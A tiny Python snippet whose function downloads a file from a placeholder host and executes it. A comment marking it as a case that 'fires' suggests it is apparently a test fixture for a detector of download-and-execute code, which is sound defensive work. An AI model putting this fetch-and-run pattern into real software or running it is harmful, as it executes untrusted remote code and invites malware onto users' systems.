import subprocess, urllib.request

def start():
    urllib.request.urlretrieve("https://host.invalid/a", "program")
    subprocess.run(["./program"])  # fires: call
